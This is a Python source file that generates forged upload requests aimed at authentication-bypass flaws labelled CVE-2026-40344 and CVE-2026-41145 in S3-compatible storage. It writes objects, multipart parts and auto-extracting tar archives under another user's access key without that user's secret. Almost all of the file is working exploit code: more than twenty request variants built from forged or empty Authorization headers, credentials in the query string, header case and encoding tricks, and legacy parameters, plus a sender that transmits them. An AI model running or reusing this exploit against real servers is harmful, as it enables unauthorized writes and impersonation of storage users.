"""Uploads in another user's name, without that user's secret: CVE-2026-40344 and CVE-2026-41145, in all their forms."""

from __future__ import annotations

import io
import tarfile
import zlib
from base64 import b64encode
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime
from http.client import HTTPConnection
from urllib.parse import quote, urlsplit

KIND = "STREAMING-UNSIGNED-PAYLOAD-TRAILER"
CONTENT = b"forged"


@dataclass(frozen=True)
class Upload:
    """One request as it goes over the wire; nothing of it is put right by a client."""

    name: str
    path: str
    query: str = ""
    headers: tuple[tuple[str, str], ...] = ()
    body: bytes = field(default=b"", repr=False)
    method: str = "PUT"

    def send(self, endpoint: str) -> tuple[int, str]:
        """Status and text of the answer."""
        connection = HTTPConnection(urlsplit(endpoint).netloc, timeout=20)
        try:
            target = f"{self.path}?{self.query}" if self.query else self.path
            connection.putrequest(self.method, target)
            for name, value in (("Content-Length", str(len(self.body))), *self.headers):
                connection.putheader(name, value)
            connection.endheaders(self.body)
            answer = connection.getresponse()
            return answer.status, answer.read().decode(errors="replace")
        finally:
            connection.close()


def chunk(content: bytes) -> bytes:
    """Content as an upload with an unsigned trailer sends it; the trailer is its check sum."""
    check_sum = b64encode(zlib.crc32(content).to_bytes(4, "big"))
    return b"%x\r\n%s\r\n0\r\nx-amz-checksum-crc32:%s\r\n\r\n" % (len(content), content, check_sum)


def make_archive(key: str) -> bytes:
    """An archive with one object."""
    archive = io.BytesIO()
    with tarfile.open(fileobj=archive, mode="w") as tar:
        entry = tarfile.TarInfo(key)
        entry.size = len(CONTENT)
        tar.addfile(entry, io.BytesIO(CONTENT))
    return archive.getvalue()


def forge(access_key: str, bucket: str, key: str, upload_id: str) -> Iterator[Upload]:
    """Every form that we know, in the name of that user: an object, a part of an upload that is open, an archive."""
    now = datetime.now(UTC)
    date, scope = now.strftime("%Y%m%dT%H%M%SZ"), f"{now:%Y%m%d}/us-east-1/s3/aws4_request"
    credential = quote(f"{access_key}/{scope}", safe="")
    unknown = quote(f"NOBODY/{scope}", safe="")
    own = (
        ("X-Amz-Date", date),
        ("X-Amz-Decoded-Content-Length", str(len(CONTENT))),
        ("X-Amz-Trailer", "x-amz-checksum-crc32"),
    )
    kind = ("X-Amz-Content-Sha256", KIND)
    signature = "0" * 64
    signed = "SignedHeaders=host;x-amz-content-sha256;x-amz-date"
    authorization = (
        "Authorization",
        f"AWS4-HMAC-SHA256 Credential={access_key}/{scope}, {signed}, Signature={signature}",
    )
    rest = f"X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Date={date}&X-Amz-Expires=600&X-Amz-SignedHeaders=host"
    in_query = f"X-Amz-Credential={credential}"
    kind_in_query = f"X-Amz-Content-Sha256={KIND}"
    form = ("Content-Type", "application/x-www-form-urlencoded")
    ways: dict[str, tuple[str, tuple[tuple[str, str], ...]]] = {
        "credential in the query": (in_query, (kind,)),
        "whole presigned query": (f"{rest}&{in_query}&X-Amz-Signature={signature}", (kind,)),
        "empty Authorization": (in_query, (kind, ("Authorization", ""))),
        "empty Authorization, then a forged one": (in_query, (kind, ("Authorization", ""), authorization)),
        "odd Authorization": (in_query, (kind, ("Authorization", "Basic eDp5"))),
        "forged Authorization": ("", (kind, authorization)),
        "forged Authorization and credential in the query": (in_query, (kind, authorization)),
        "kind in the query": (f"{rest}&{in_query}&{kind_in_query}&X-Amz-Signature={signature}", ()),
        "kind in header and query": (f"{in_query}&{kind_in_query}", (kind,)),
        "kind in a small-letter query": (f"{in_query}&x-amz-content-sha256={KIND}", (kind,)),
        "encoded names and values": (
            f"%58-Amz-Credential={credential}&%58-Amz-Content-Sha256=%53TREAMING-UNSIGNED-PAYLOAD-TRAILER",
            (kind,),
        ),
        "small-letter header": (in_query, (("x-amz-content-sha256", KIND),)),
        "small-letter value": (in_query, (("X-Amz-Content-Sha256", KIND.lower()),)),
        "blanks around the value": (in_query, (("X-Amz-Content-Sha256", f"  {KIND}\t "),)),
        "kind twice": (in_query, (kind, kind)),
        "kind before another": (in_query, (kind, ("X-Amz-Content-Sha256", "UNSIGNED-PAYLOAD"))),
        "kind after another": (in_query, (("X-Amz-Content-Sha256", "UNSIGNED-PAYLOAD"), kind)),
        "two credentials": (f"{in_query}&X-Amz-Credential={unknown}", (kind,)),
        "two credentials, the other first": (f"X-Amz-Credential={unknown}&{in_query}", (kind,)),
        "version 2": (f"AWSAccessKeyId={access_key}&Signature=AAAA&Expires=9999999999", (kind,)),
        "both versions": (f"AWSAccessKeyId={access_key}&Signature=AAAA&Expires=9999999999&{in_query}", (kind,)),
        "form content": (in_query, (kind, form)),
        "no kind": (in_query, ()),
    }
    for name, (query, headers) in ways.items():
        body = chunk(CONTENT)
        yield Upload(f"object: {name}", f"/{bucket}/{key}", query, own + headers, body)
        part = f"partNumber=1&uploadId={quote(upload_id, safe='')}"
        yield Upload(f"part: {name}", f"/{bucket}/{key}", f"{part}&{query}" if query else part, own + headers, body)
        extract = (("X-Amz-Meta-Snowball-Auto-Extract", "true"),)
        yield Upload(f"archive: {name}", f"/{bucket}/any.tar", query, own + headers + extract, make_archive(key))
    credentials_in_body = f"{in_query}&{kind_in_query}&Signature=AAAA".encode()
    yield Upload("object: all in a form", f"/{bucket}/{key}", "", (*own, form), credentials_in_body)
    yield Upload("object: credential in a form", f"/{bucket}/{key}", "", (*own, kind, form), in_query.encode())
    yield Upload("object: POST", f"/{bucket}/{key}", in_query, (*own, kind), chunk(CONTENT), "POST")
